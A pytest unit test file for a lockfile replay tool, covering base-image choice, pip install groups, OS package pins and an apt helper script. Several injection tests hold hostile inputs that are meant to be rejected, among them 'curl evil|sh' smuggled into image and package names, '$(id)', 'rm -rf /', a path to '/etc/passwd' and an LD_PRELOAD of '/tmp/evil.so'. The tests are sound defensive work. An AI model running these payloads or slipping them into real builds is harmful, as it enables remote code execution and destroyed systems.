"""The replay plan (pure): base-image choice, install groups, OS pins, env, per-layer findings."""

from __future__ import annotations

import importlib.util
import json
from pathlib import Path

import pytest

from envlock import records
from envlock.errors import ReplayError
from envlock.findings import CHANGED, EXACT, NOT_REPRODUCIBLE
from envlock.lockfile import (
    CudaComponent,
    CudaSection,
    Lock,
    OsPackage,
    OsSection,
    PythonPackage,
    PythonSection,
    RuntimeSection,
)
from envlock.replay import base_matrix as bi
from envlock.replay.os_report import os_report_findings, parse_os_report
from envlock.replay.plan import BaseFacts, ReplayOptions, is_image_owned_env, layer_summary, plan_replay, system_cuda
from envlock.resolve import Pin, PinSet, Problem, VcsRef
from tests.unit.replay_data import lock, pins

REPO = Path(__file__).resolve().parents[2]
DIGEST = "sha256:" + "ab" * 32


def _by_path(plan):
    out: dict[str, list] = {}
    for item in plan.findings:
        out.setdefault(item.path, []).append(item)
    return out


def _pin(name, version, sha="0" * 64, index="https://pypi.org/simple", kind="wheel", **extra):
    extra.setdefault("url", None)
    return Pin(name, version, f"{name}-{version}-py3-none-any.whl", sha, kind, index=index, **extra)


# --- the matrix --------------------------------------------------------------------


def test_matrix_file_is_sorted_and_every_row_parses():
    text = (REPO / "envlock" / "replay" / "data" / "base_images.csv").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0].startswith("kind,python,distro")
    assert lines[1:] == sorted(lines[1:])
    rows = bi.parse_matrix(text)
    assert len(rows) == len(lines) - 1
    assert {row.kind for row in rows} == set(bi.KINDS)
    # every CUDA row names its toolkit and cuDNN; no other row does
    assert all((row.cuda is not None) == (row.kind == "cuda") for row in rows)
    assert all(row.cudnn for row in rows if row.kind == "cuda")


def test_matrix_rows_name_images_that_match_their_columns():
    for row in bi.load_matrix():
        if row.kind == "python":
            assert row.image.startswith(f"python:{row.python}-slim-")
        if row.kind == "cuda":
            assert row.image.startswith(f"nvidia/cuda:{row.cuda}.")
            assert f"-ubuntu{row.distro_version}" in row.image
            assert f"-{row.flavor}-" in row.image
        if row.kind == "debootstrap":
            assert row.image.startswith(f"envlock/python:{row.python}-debian-")


@pytest.mark.parametrize(
    "request_args, expected",
    [
        (dict(python="3.11", distro="debian", distro_version="12"), "python:3.11-slim-bookworm"),
        (dict(python="3.12", distro="debian", distro_version="11"), "python:3.12-slim-bullseye"),
        # the lock's own release wins when it has the locked Python (its apt packages then install)
        (dict(python="3.10", distro="ubuntu", distro_version="22.04"), "ubuntu:22.04"),
        # no Ubuntu release has 3.11: the Python minor decides, then the newest Debian
        (dict(python="3.11", distro="ubuntu", distro_version="22.04"), "python:3.11-slim-trixie"),
        (dict(python="3.10", cuda="12.1", cudnn="8", devel=True), "nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04"),
        (dict(python="3.10", cuda="12.1", cudnn="8"), "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04"),
        (dict(python="3.12", cuda="12.8"), "nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04"),
        (
            dict(python="3.11", distro="debian", distro_version="12", source="debootstrap"),
            "envlock/python:3.11-debian-bookworm",
        ),
        (dict(python="3.13", source="debootstrap"), "envlock/python:3.13-debian-trixie"),
    ],
)
def test_choose_base(request_args, expected):
    assert bi.choose_base(bi.BaseRequest(**request_args)).image == expected


def test_no_matching_python_lists_what_is_available():
    with pytest.raises(ReplayError) as info:
        bi.choose_base(bi.BaseRequest(python="3.7", distro="debian", distro_version="10"))
    message = info.value.message
    assert "no base image in the matrix provides Python 3.7" in message
    assert "python:3.8-slim-bullseye (Python 3.8, debian 11)" in message
    assert "--base-image" in info.value.hint


def test_cuda_lock_with_a_python_no_cuda_image_has_lists_the_cuda_images():
    with pytest.raises(ReplayError) as info:
        bi.choose_base(bi.BaseRequest(python="3.11", cuda="12.1", cudnn="8"))
    assert "Python 3.11 with CUDA 12.1" in info.value.message
    assert (
        "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04 (Python 3.10, ubuntu 22.04, CUDA 12.1 cuDNN 8 runtime)"
        in info.value.message
    )


def test_unknown_cuda_version_lists_the_versions_there_are():
    with pytest.raises(
        ReplayError,
        match=r"no base image in the matrix has CUDA 10\.2; available: 11\.8, 12\.1, 12\.2, 12\.4, 12\.6, 12\.8",
    ):
        bi.choose_base(bi.BaseRequest(python="3.10", cuda="10.2"))


def test_debootstrap_cannot_give_cuda():
    with pytest.raises(ReplayError, match="debootstrap has no CUDA"):
        bi.choose_base(bi.BaseRequest(python="3.10", cuda="12.1", source="debootstrap"))


@pytest.mark.parametrize(
    "ref",
    [
        "python:3.11-slim-bookworm",
        "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04",
        "registry.example.org:5000/team/img:1.0",
        "python@" + DIGEST,
        "python:3.11@" + DIGEST,
        "envlock/python:3.11-debian-bookworm",
    ],
)
def test_image_refs_accepted(ref):
    assert bi.check_image_ref(ref) == ref


@pytest.mark.parametrize(
    "ref",
    [
        "python:3.11 AS evil",  # stage-name injection (B4)
        "--platform=linux/arm64 python:3.11",
        "python:3.11\nRUN curl evil|sh",
        " python:3.11",
        "Python:3.11",
        "python:3.11@sha256:abc",
        "python:${TAG}",
        "python:3.11;id",
        "",
    ],
)
def test_image_refs_refused(ref):
    with pytest.raises(ReplayError, match="is not an image reference"):
        plan_replay(lock("cpu"), ReplayOptions(base_image=ref))


# --- the plan ----------------------------------------------------------------------


def test_cpu_plan_layers():
    plan = plan_replay(lock("cpu"), ReplayOptions(pins=pins("cpu")))
    assert plan.base_image == "python:3.11-slim-bookworm"
    assert plan.python_from == "image" and plan.apt_bootstrap == ()
    assert [(g.kind, g.index_url, g.binary_only) for g in plan.install_groups] == [
        ("index", "https://pypi.org/simple", True)
    ]
    assert [r.line() for r in plan.install_groups[0].requirements] == [
        "idna==3.7 --hash=sha256:82fee1fc78add43492d3a1898bfa6d8a904cc97d8427f683ed8e798d07761aa0",
        "numpy==1.26.4 --hash=sha256:666dbfb6ec68962c033a450943ded891bed2d54e6755e35e5835d63f4f6931d5",
        "pip==24.0 --hash=sha256:ba0d021a166865d2265246961bec0152ff124de910c5cc39f1156ce3fa7c69dc",
        "six==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254",
    ]
    # setuptools comes with a fresh venv but is not locked: removed
    assert plan.remove_after_install == ("setuptools",)
    # only the hand-installed OS packages, at their locked versions
    assert [o.arg() for o in plan.os_packages] == ["curl=7.88.1-10+deb12u5", "libopenblas0-pthread=0.3.21+ds-4"]
    assert plan.env == (("OMP_NUM_THREADS", "8"), ("PYTHONHASHSEED", "0"))
    found = _by_path(plan)
    assert found["python.version"][0].status == CHANGED  # python:3.11 floats over patch releases
    assert found["python.version"][0].locked == "3.11.7"
    assert found["cpu"][0].status == NOT_REPRODUCIBLE  # the host's
    assert found["os.kernel"][0].status == NOT_REPRODUCIBLE
    assert found["project.commit"][0].status == NOT_REPRODUCIBLE
    assert "nvidia.driver" not in found  # the lock had no driver
    statuses = {(f.path, f.status) for f in found["os.packages"]}
    assert ("os.packages", EXACT) in statuses and ("os.packages", CHANGED) in statuses  # pinned + 1 automatic
    assert plan.fingerprint == "sha256:9645f9b239afb624e0840afac3a64bb05264c445b53081eb1eef8f195fc51594"


def test_cuda_plan_reports_host_and_toolkit():
    plan = plan_replay(lock("cuda-system"), ReplayOptions(pins=pins("cuda-system")))
    assert plan.base_image == "nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04"
    assert plan.apt_bootstrap == ("python3", "python3-venv")
    assert plan.remove_after_install == ()  # setuptools is locked
    found = _by_path(plan)
    assert found["nvidia.driver"][0].status == NOT_REPRODUCIBLE and found["nvidia.driver"][0].locked == "535.104.05"
    assert found["nvidia.gpus"][0].locked == "2 x NVIDIA A100-SXM4-40GB"
    assert (found["cuda.cudart"][0].status, found["cuda.cudart"][0].actual) == (CHANGED, "12.1.x")
    assert (found["cuda.cudnn"][0].status, found["cuda.cudnn"][0].actual) == (CHANGED, "8.x")
    assert found["python.version"][0].status == EXACT  # Ubuntu 22.04's python3 is 3.10.12
    assert [o.name for o in plan.os_packages] == ["build-essential", "libopenmpi-dev"]
    # CUDA_LAUNCH_BLOCKING is allow-listed although CUDA_* belongs to the image
    assert dict(plan.env) == {"CUBLAS_WORKSPACE_CONFIG": ":4096:8", "CUDA_LAUNCH_BLOCKING": "1", "NCCL_ALGO": "Ring"}


def test_layer_summary_counts_statuses_per_layer():
    summary = layer_summary(plan_replay(lock("cuda-system"), ReplayOptions(pins=pins("cuda-system"))).findings)
    assert summary["cuda"] == {"differs": 3}
    assert summary["driver"] == {"not-reproducible": 1}
    assert summary["gpu"] == {"not-reproducible": 1}
    assert summary["python"] == {"exact": 2}
    assert summary["os"] == {"exact": 3}


def test_system_cuda_is_read_from_system_components_only():
    assert system_cuda(lock("cuda-system")) == ("12.1", "8", True)
    assert system_cuda(lock("torch-cu121")) == (None, None, False)  # cuDNN from a pip wheel


def test_conda_plan_reports_conda_and_a_foreign_release():
    plan = plan_replay(lock("conda"), ReplayOptions(pins=pins("conda")))
    found = _by_path(plan)
    assert found["conda.packages[libblas]"][0].status == NOT_REPRODUCIBLE
    assert found["conda.packages[libblas]"][0].severity == "numeric"
    # This lock's openssl, numpy and python records have no URL, so the conda layer is not replayed, and says why once.
    assert [(f.severity, "has no URL" in f.message) for f in found["conda.packages[openssl]"]] == [("blocker", True)]
    assert "not every package can be fetched" in found["conda.packages"][-1].message
    assert plan.conda is None
    numpy = found["python.packages[numpy]"][0]
    assert (numpy.status, numpy.severity) == (CHANGED, "numeric")
    assert found["python.packages[pip]"][0].severity == "differs"  # a conda pip has no native code
    # Ubuntu 22.04 packages cannot go onto a Debian base
    assert plan.os_step is False and plan.os_packages == ()
    assert found["os.packages[git]"][0].status == NOT_REPRODUCIBLE
    assert found["os.release"][0].status == CHANGED


def test_torch_cu121_without_the_pytorch_index_is_not_reproducible():
    plan = plan_replay(lock("torch-cu121"), ReplayOptions(pins=pins("torch-cu121")))
    names = [r.name for g in plan.install_groups for r in g.requirements]
    assert names == ["filelock", "nvidia-cudnn-cu12", "pip"]
    torch = _by_path(plan)["python.packages[torch]"][0]
    assert torch.status == NOT_REPRODUCIBLE
    assert "download.pytorch.org/whl/cu121" in torch.fix
    assert dict(plan.env)["NVIDIA_TF32_OVERRIDE"] == "0"


def test_torch_cu121_from_a_wheelhouse_goes_first_without_an_index():
    plan = plan_replay(lock("torch-cu121"), ReplayOptions(pins=pins("torch-cu121-wheelhouse")))
    first = plan.install_groups[0]
    assert (first.kind, first.index_url) == ("wheelhouse", None)
    assert [r.line() for r in first.requirements] == ["torch==2.1.2+cu121 --hash=sha256:" + "1" * 64]
    assert [(w.filename, w.local_path) for w in plan.wheelhouse] == [
        ("torch-2.1.2+cu121-cp311-cp311-linux_x86_64.whl", "/wheelhouse/torch-2.1.2+cu121-cp311-cp311-linux_x86_64.whl")
    ]


def test_pytorch_index_pins_get_their_own_group():
    lk = lock("torch-cu121")
    recorded = pins("torch-cu121")
    torch = Pin(
        "torch",
        "2.1.2+cu121",
        "torch-2.1.2+cu121-cp311-cp311-linux_x86_64.whl",
        "2" * 64,
        "wheel",
        url="https://download.pytorch.org/whl/cu121/torch-2.1.2%2Bcu121-cp311-cp311-linux_x86_64.whl",
        index="https://download.pytorch.org/whl/cu121",
    )
    plan = plan_replay(lk, ReplayOptions(pins=PinSet(pins=recorded.pins + (torch,))))
    assert [(g.index_url, [r.name for r in g.requirements]) for g in plan.install_groups] == [
        ("https://download.pytorch.org/whl/cu121", ["torch"]),
        ("https://pypi.org/simple", ["filelock", "nvidia-cudnn-cu12", "pip"]),
    ]


def test_without_pins_nothing_is_installed_and_the_plan_says_so():
    plan = plan_replay(lock("cpu"))
    assert plan.install_groups == ()
    blocker = _by_path(plan)["python.packages"][0]
    assert blocker.status == NOT_REPRODUCIBLE and "4 packages were not resolved" in blocker.message


@pytest.mark.parametrize(
    "pin, reason",
    [
        (_pin("six", "1.16.0", index="file:///opt/pypi/simple"), "not a portable https URL"),
        (_pin("six", "1.16.0", index="http://pypi.org/simple"), "not a portable https URL"),
        (_pin("six", "1.16.0", index="https://u:p@pypi.org/simple"), "not a portable https URL"),
        (_pin("six", "1.16.0", index="https://pypi.org/%2e%2e/simple"), "not a portable https URL"),
        (_pin("six", "1.17.0"), "pinned version '1.17.0', not the locked '1.16.0'"),
        (_pin("six", "1.16.0", sha="XYZ"), "no valid sha256"),
        (_pin("six", "1.16.0", kind="sdist"), "sdists are opt-in"),
        (_pin("six", "1.16.0", index=None, url=None), "not a portable https URL"),
        (_pin("six", "1.16.0", index=None, wheelhouse_file="/w/x.whl"), None),
    ],
)
def test_each_pin_is_checked_again_before_it_reaches_the_context(pin, reason):
    if pin.wheelhouse_file:  # a hostile wheelhouse file name
        pin = records.replace(pin, filename="../../etc/passwd.whl")
        reason = "is not a plain distribution file name"
    plan = plan_replay(lock("cpu"), ReplayOptions(pins=PinSet(pins=(pin,))))
    six = _by_path(plan)["python.packages[six]"]
    assert any(reason in f.message for f in six), [f.message for f in six]
    assert all(r.name != "six" for g in plan.install_groups for r in g.requirements)
    assert plan.wheelhouse == ()


def test_sdists_install_only_when_allowed_and_without_only_binary():
    plan = plan_replay(
        lock("cpu"), ReplayOptions(pins=PinSet(pins=(_pin("six", "1.16.0", kind="sdist"),)), allow_sdists=True)
    )
    assert [(g.binary_only, [r.name for r in g.requirements]) for g in plan.install_groups] == [(False, ["six"])]


def test_resolver_problems_and_vcs_refs_become_findings():
    pinset = PinSet(
        pins=(),
        problems=(Problem("numpy", "1.26.4", "not on https://pypi.org/simple", fix="pass --find-links"),),
        vcs=(VcsRef("six", "1.16.0", "git", "git+https://github.com/benjaminp/six", "a" * 40),),
    )
    found = _by_path(plan_replay(lock("cpu"), ReplayOptions(pins=pinset)))
    assert found["python.packages[numpy]"][0].status == NOT_REPRODUCIBLE
    assert any("cannot be installed with --require-hashes" in f.message for f in found["python.packages[six]"])
    # packages the resolver said nothing about are reported too
    assert found["python.packages[idna]"][0].message == "idna 3.7 was not resolved, so it is not installed"


def test_digest_pinning_and_strict_mode():
    plan = plan_replay(lock("cpu"), ReplayOptions(pins=pins("cpu"), require_digest=True))
    assert not plan.pinned_by_digest
    pinned = plan.with_base_digest(DIGEST)
    # the tag stays for people; Docker pulls by the digest
    assert pinned.from_ref == f"python:3.11-slim-bookworm@{DIGEST}"
    with pytest.raises(ReplayError, match="not sha256"):
        plan.with_base_digest("sha256:short")
    user = plan_replay(lock("cpu"), ReplayOptions(base_image=f"python:3.11@{DIGEST}", require_digest=True))
    assert user.pinned_by_digest and user.base_source == "user" and user.base is None


def test_a_user_base_image_leaves_os_packages_and_python_unknown():
    plan = plan_replay(lock("cpu"), ReplayOptions(base_image="registry.example.org/ml/base:2024", pins=pins("cpu")))
    found = _by_path(plan)
    assert found["python.version"][0].status == "unknown"
    assert plan.os_step is False
    assert found["os.packages[curl]"][0].status == NOT_REPRODUCIBLE


def test_a_user_base_image_whose_release_was_read_is_planned_like_a_matrix_row():
    # What `envlock replay --base-image` reads from the image before planning.
    facts = BaseFacts(os_id="debian", os_version_id="12", python_version="3.11.2")
    locked = lock("cpu")
    plan = plan_replay(
        locked,
        ReplayOptions(base_image="debian-python:bookworm", base_facts=facts, base_digest=DIGEST, pins=pins("cpu")),
    )
    found = _by_path(plan)
    assert plan.os_step is True
    assert [p.name for p in plan.os_packages] == sorted(p.name for p in locked.os.packages if p.manual)
    assert found["os.release"][0].status == EXACT
    assert found["os.release"][0].message == "OS release: debian 12 (debian-python:bookworm) (read from the image)"
    assert not [f for f in plan.findings if f.path.startswith("os.packages[")]
    assert found["python.version"][0].status == CHANGED
    assert found["python.version"][0].actual == "3.11.2"
    assert "read from the image before planning" in found["python.version"][0].message
    # the digest came in with the options: FROM is pinned by the one plan
    assert plan.from_ref == f"debian-python:bookworm@{DIGEST}"


def test_a_user_base_image_of_another_release_or_python_minor():
    facts = BaseFacts(os_id="ubuntu", os_version_id="22.04", python_version="3.10.12")
    plan = plan_replay(lock("cpu"), ReplayOptions(base_image="ubuntu-py:22.04", base_facts=facts, pins=pins("cpu")))
    found = _by_path(plan)
    assert plan.os_step is False
    assert found["os.release"][0].status == CHANGED
    curl = found["os.packages[curl]"][0]
    assert curl.message.endswith("the lock is from debian 12 and the base image is ubuntu 22.04")
    assert found["python.version"][0].severity == "blocker"
    assert found["python.version"][0].status == NOT_REPRODUCIBLE


def test_a_lock_whose_cuda_toolkit_no_base_has_is_planned_once_without_it():
    base = lock("cpu")
    toolkit = CudaSection(
        components=(CudaComponent("cudart", "10.2.89", "system"), CudaComponent("cudnn", "7.6.5", "system"))
    )
    locked = records.replace(base, cuda=toolkit)
    plan = plan_replay(locked, ReplayOptions(pins=pins("cpu")))
    assert plan.base_image == "python:3.11-slim-bookworm"
    assert plan.lock is locked
    found = _by_path(plan)
    for name in ("cudart", "cudnn"):
        item = found[f"cuda.{name}"][0]
        assert item.status == NOT_REPRODUCIBLE
        assert "no base image in the matrix has CUDA 10.2" in item.message
    # without a registry the reason is the debootstrap base's
    own = plan_replay(locked, ReplayOptions(pins=pins("cpu"), base_source="debootstrap"))
    assert own.base_image == "envlock/python:3.11-debian-bookworm"
    assert "debootstrap has no CUDA" in _by_path(own)["cuda.cudart"][0].message


def test_a_lock_without_a_python_version_needs_a_base_image():
    with pytest.raises(ReplayError, match="no Python version") as info:
        plan_replay(Lock())
    assert "--base-image" in info.value.hint


@pytest.mark.parametrize(
    "name",
    [
        "PATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PYTHONPATH",
        "PIP_INDEX_URL",
        "UV_INDEX_URL",
        "CONDA_PREFIX",
        "HTTPS_PROXY",
        "no_proxy",
        "NVIDIA_VISIBLE_DEVICES",
        "CUDA_VISIBLE_DEVICES",
    ],
)
def test_image_owned_names(name):
    assert is_image_owned_env(name)


@pytest.mark.parametrize(
    "name", ["OMP_NUM_THREADS", "CUDA_LAUNCH_BLOCKING", "CUDA_MODULE_LOADING", "NVIDIA_TF32_OVERRIDE", "NCCL_ALGO"]
)
def test_numerics_names_the_image_does_not_own(name):
    assert not is_image_owned_env(name)


def test_env_names_the_image_owns_are_never_planned_even_from_an_unvalidated_lock():
    built = Lock(
        python=PythonSection(version="3.11.7"),
        runtime=RuntimeSection(
            env={"LD_PRELOAD": "/tmp/evil.so", "CUDA_VISIBLE_DEVICES": "0", "OMP_NUM_THREADS": "2", "HF_TOKEN": "hf_x"}
        ),
    )
    plan = plan_replay(built)
    assert plan.env == (("OMP_NUM_THREADS", "2"),)
    found = _by_path(plan)
    for name in ("LD_PRELOAD", "CUDA_VISIBLE_DEVICES", "HF_TOKEN"):
        assert found[f"runtime.env.{name}"][0].status == NOT_REPRODUCIBLE


def test_os_packages_are_checked_with_debian_rules():
    built = Lock(
        python=PythonSection(version="3.11.7"),
        os=OsSection(
            id="debian",
            version_id="12",
            package_manager="dpkg",
            packages=(
                OsPackage("Foo_Bar", "1.0", manual=True),  # rpm-style names pass the lock schema, not Debian's
                OsPackage("vim", "2:9.0.1378-2", manual=True),
                OsPackage("x", "1.0", manual=True),  # Debian names have two characters at least
                OsPackage("tzdata", "2024a-0+deb12u1", manual=None),
            ),
        ),
    )
    plan = plan_replay(built)
    assert [o.arg() for o in plan.os_packages] == ["vim=2:9.0.1378-2"]
    found = _by_path(plan)
    assert "is not a Debian package name" in found["os.packages[Foo_Bar]"][0].message
    assert "is not a Debian package name" in found["os.packages[x]"][0].message


def test_cuda_components_by_source():
    built = Lock(
        python=PythonSection(version="3.11.7"),
        cuda=CudaSection(
            components=(
                CudaComponent("cublas", "12.1.3.1", "pip", "nvidia-cublas-cu12"),
                CudaComponent("cudatoolkit", "11.8.0", "conda"),
            )
        ),
    )
    found = _by_path(plan_replay(built))
    assert found["cuda.cublas"][0].status == EXACT
    assert found["cuda.cudatoolkit"][0].status == NOT_REPRODUCIBLE


def test_pypy_is_reported_as_not_reproducible():
    built = Lock(
        python=PythonSection(implementation="pypy", version="3.10.13", packages=(PythonPackage("six", "1.16.0"),))
    )
    assert _by_path(plan_replay(built))["python.implementation"][0].status == NOT_REPRODUCIBLE


def test_options_are_validated():
    with pytest.raises(ReplayError, match="needs the certificate"):
        plan_replay(lock("cpu"), ReplayOptions(ca_mode="stage"))
    with pytest.raises(ReplayError, match="CA mode"):
        plan_replay(lock("cpu"), ReplayOptions(ca_mode="bogus"))
    with pytest.raises(ReplayError, match="base source"):
        plan_replay(lock("cpu"), ReplayOptions(base_source="ftp"))


# --- the OS report written in the image, and the script that writes it ----------------


def _report(*packages, errors=()):
    return json.dumps({"schema": 1, "tool": "apt", "packages": list(packages), "errors": list(errors)})


def test_os_report_findings():
    text = _report(
        {
            "name": "curl",
            "locked": "7.88.1-10+deb12u5",
            "installed": "7.88.1-10+deb12u15",
            "available": ["7.88.1-10+deb12u15"],
            "status": "differs",
        },
        {
            "name": "libopenblas0-pthread",
            "locked": "0.3.21+ds-4",
            "installed": "0.3.21+ds-4",
            "available": ["0.3.21+ds-4"],
            "status": "exact",
        },
        {"name": "gone", "locked": "1.0-1", "installed": None, "available": [], "status": "missing"},
    )
    found = {f.path: f for f in os_report_findings(text, "bookworm")}
    curl = found["os.packages[curl]"]
    assert (curl.status, curl.locked, curl.actual) == (CHANGED, "7.88.1-10+deb12u5", "7.88.1-10+deb12u15")
    assert "the mirror no longer has 7.88.1-10+deb12u5" in curl.message
    assert "snapshot.debian.org/archive/debian/" in curl.fix and "bookworm" in curl.fix
    assert found["os.packages[libopenblas0-pthread]"].status == EXACT
    assert found["os.packages[gone]"].status == NOT_REPRODUCIBLE


def test_os_report_from_the_image_is_untrusted():
    text = _report(
        {"name": "ok", "locked": "1.0", "installed": "1.0", "available": [], "status": "exact"},
        {"name": "evil\u001b[31m", "locked": "1.0", "installed": "1.0", "status": "exact"},
        {"name": "vim", "locked": "1.0; rm -rf /", "installed": "1.0", "status": "exact"},
        "not a table",
    )
    assert [p["name"] for p in parse_os_report(text)["packages"]] == ["ok"]
    for bad in ("not json", json.dumps({"schema": 99, "packages": []}), json.dumps([1])):
        with pytest.raises(ReplayError):
            parse_os_report(bad)


@pytest.fixture(scope="module")
def os_script():
    spec = importlib.util.spec_from_file_location("envlock_os_packages_script", REPO / "templates" / "os_packages.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_os_script_arguments(os_script):
    assert os_script.parse_args(["--report", "/opt/r.json", "--", "curl=7.88.1-10+deb12u5", "vim=2:9.0-1"]) == {
        "report": "/opt/r.json",
        "ca_file": None,
        "sources": [],
        "fallbacks": [],
        "local": None,
        "packages": [("curl", "7.88.1-10+deb12u5"), ("vim", "2:9.0-1")],
    }
    snapshot = "deb [check-valid-until=no] https://snapshot.debian.org/archive/debian/20240610T000000Z/ bookworm main"
    mirror = "deb http://127.0.0.1:8080/debian bookworm main"
    args = os_script.parse_args(["--report", "/r", "--source", mirror, "--fallback", snapshot, "--", "tree=2.1.0-1"])
    assert (args["sources"], args["fallbacks"]) == ([mirror], [snapshot])


@pytest.mark.parametrize(
    "argv",
    [
        ["--report", "/r", "--", "vim; curl evil|sh=1"],  # repo2docker's passing payloads (D1)
        ["--report", "/r", "--", "vim$(id)=1"],
        ["--report", "/r", "--", "-o=APT::x=1"],
        ["--report", "/r", "--", "../x=1"],
        ["--report", "/r", "--", "vim=1.0 ;rm"],  # D2
        ["--report", "/r", "--", "vim"],
        ["--report", "relative.json", "--"],
        ["--report", "/r", "vim=1"],  # no --
        ["--bogus", "--", "vim=1"],
        # source lines: no options apt would honour besides check-valid-until, no second line, no file: URLs
        ["--report", "/r", "--source", "deb [trusted=yes] http://x/debian bookworm main", "--"],
        ["--report", "/r", "--fallback", "deb http://x/debian bookworm main\ndeb http://evil/ x main", "--"],
        ["--report", "/r", "--source", "deb file:///tmp/x bookworm main", "--"],
        ["--report", "/r", "--source", "deb-src http://x/debian bookworm main", "--"],
        ["--report", "/r", "--source", "deb http://x/debian bookworm", "--"],
    ],
)
def test_os_script_refuses_bad_arguments(os_script, argv):
    with pytest.raises(ValueError):
        os_script.parse_args(argv)


def test_os_script_exits_2_on_bad_arguments_and_writes_nothing(os_script, tmp_path, capsys):
    report = tmp_path / "r.json"
    assert os_script.main(["--report", str(report), "--", "vim;id=1"]) == 2
    assert not report.exists()


def test_os_script_with_nothing_to_install_writes_an_empty_report(os_script, tmp_path):
    report = tmp_path / "sub" / "r.json"
    assert os_script.main(["--report", str(report), "--"]) == 0
    assert json.loads(report.read_text()) == {"errors": [], "packages": [], "schema": 1, "tool": "apt"}


def test_os_script_reads_apt_output(os_script):
    madison = (
        "      curl | 7.88.1-10+deb12u15 | http://deb.debian.org/debian-security bookworm-security/main amd64 Packages\n"
        "      curl | 7.88.1-10+deb12u5 | http://deb.debian.org/debian bookworm/main amd64 Packages\n"
        "   libcurl4 | 7.88.1-10+deb12u5 | http://deb.debian.org/debian bookworm/main amd64 Packages\n"
    )
    assert os_script.parse_madison(madison, "curl") == ["7.88.1-10+deb12u15", "7.88.1-10+deb12u5"]


def test_os_script_installs_exact_versions_or_nothing(os_script):
    # the mirror's newer curl is never installed in place of the locked one
    specs, entries = os_script.plan_installs(
        [("curl", "7.88.1-10+deb12u1"), ("vim", "2:9.0-1"), ("tree", "2.1.0-1"), ("gone", "1.0")],
        {"curl": ["7.88.1-10+deb12u15"], "vim": ["2:9.0-2", "2:9.0-1"], "tree": ["2.1.0-1"]},
        {("tree", "2.1.0-1"): "snapshot"},
    )
    assert specs == ["vim=2:9.0-1", "tree=2.1.0-1"]
    assert [(e["name"], e["status"], e["installed"], e.get("origin")) for e in entries] == [
        ("curl", "missing", None, None),
        ("vim", "exact", "2:9.0-1", "mirror"),
        ("tree", "exact", "2.1.0-1", "snapshot"),
        ("gone", "missing", None, None),
    ]


# apt-get's answer when curl's locked version needs the same version of libcurl4
# (recorded from a bookworm build of tests/data/lockfiles/cpu.lock, 2026-11-29).
APT_CONFLICT = """Some packages could not be installed. This may mean that you have
requested an impossible situation or if you are using the unstable
distribution that some required packages have not yet been created
or been moved out of Incoming.
The following information may help to resolve the situation:

The following packages have unmet dependencies:
 curl : Depends: libcurl4 (= 7.88.1-10+deb12u5) but 7.88.1-10+deb12u15 is to be installed
E: Unable to correct problems, you have held broken packages.
"""


def test_os_script_reads_exact_dependency_conflicts(os_script):
    assert os_script.parse_exact_dependency_conflicts(APT_CONFLICT) == [("libcurl4", "7.88.1-10+deb12u5")]
    hostile = " x : Depends: vim;id (= 1) but 2 is to be installed\n y : Depends: ok (= 1 ;rm) but 2 is\n"
    assert os_script.parse_exact_dependency_conflicts(hostile) == []


def test_os_script_adds_the_dependency_versions_apt_asks_for(os_script):
    calls = []

    def fake_apt(argv, env):  # stands in for apt-get: refuses curl alone, accepts curl with libcurl4
        calls.append(argv[-2:] if len(argv) > 1 else argv)
        if "libcurl4=7.88.1-10+deb12u5" in argv:
            return 0, "ok"
        return 100, APT_CONFLICT

    ok, _, deps = os_script.install_exact(["apt-get", "install", "-y", "--"], ["curl=7.88.1-10+deb12u5"], {}, fake_apt)
    assert ok and deps == [("libcurl4", "7.88.1-10+deb12u5")]
    assert len(calls) == 2


def test_os_script_gives_up_when_apt_asks_for_nothing_it_can_name(os_script):
    def fake_apt(argv, env):
        return 100, "E: Version '1.0' for 'gone' was not found"

    ok, out, deps = os_script.install_exact(["apt-get", "install", "--"], ["gone=1.0"], {}, fake_apt)
    assert (ok, deps) == (False, []) and "was not found" in out
